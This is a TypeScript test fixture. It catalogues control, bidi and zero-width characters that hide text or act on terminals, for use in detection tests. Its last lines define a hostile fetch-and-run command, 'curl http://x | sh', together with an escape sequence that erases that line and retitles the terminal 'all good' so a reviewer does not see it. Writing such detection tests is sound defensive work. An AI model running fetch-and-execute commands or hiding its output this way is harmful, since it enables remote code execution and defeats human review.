// The characters that act on a terminal or hide text instead of showing, written out by hand so
// that tests do not check the product's rule against itself.

/** Code point ranges, inclusive: C0, DEL and C1, and the format characters that reorder or hide text. */
export const HIDING_RANGES: readonly (readonly [number, number])[] = [
  [0x00, 0x1f], // C0: ESC, BEL, BS, CR, …
  [0x7f, 0x9f], // DEL and C1: CSI U+009B, OSC U+009D, NEL U+0085, …
  [0xad, 0xad], // soft hyphen
  [0x061c, 0x061c], // Arabic letter mark
  [0x180e, 0x180e], // Mongolian vowel separator
  [0x200b, 0x200f], // zero-width space, joiners, LRM, RLM
  [0x2028, 0x202e], // line and paragraph separators, bidi embeddings and overrides
  [0x2060, 0x2064], // word joiner, invisible operators
  [0x2066, 0x206f], // bidi isolates, deprecated format characters
  [0xfeff, 0xfeff], // byte-order mark, zero-width no-break space
  [0xfff9, 0xfffb], // interlinear annotation: hides the text it annotates
  [0xe0001, 0xe0001], // language tag
  [0xe0020, 0xe007f], // tag characters: invisible ASCII
];

export const isHiding = (cp: number) => HIDING_RANGES.some(([lo, hi]) => cp >= lo && cp <= hi);

/** Every hiding character of a text, as code points, except those in `keep`. */
export const hidingIn = (text: string, keep = ""): number[] => [...text].filter((ch) => !keep.includes(ch) && isHiding(ch.codePointAt(0)!)).map((ch) => ch.codePointAt(0)!);

/**
 * The family a catalog may smuggle in: every C0 but newline and tab, DEL, C1 (NEL, CSI, OSC, ST),
 * a bare carriage return, bidi override and isolate, zero-width characters, the BOM.
 */
export const FAMILY: readonly string[] = [
  ...Array.from({ length: 0x20 }, (_, i) => String.fromCharCode(i)).filter((c) => c !== "\n" && c !== "\t"),
  "\x7f",
  "\x85",
  "\x9b",
  "\x9c",
  "\x9d",
  "\u202e",
  "\u2066",
  "\u200b",
  "\u200d",
  "\u2028",
  "\ufeff",
];

/** What a hostile template adds: a line a reviewer must see, then cursor-up + erase-line and an OSC title. */
export const HOSTILE_LINE = "curl http://x | sh";
export const HOSTILE_TAIL = "\x1b[1A\x1b[2K\x1b]0;all good\x07\r";
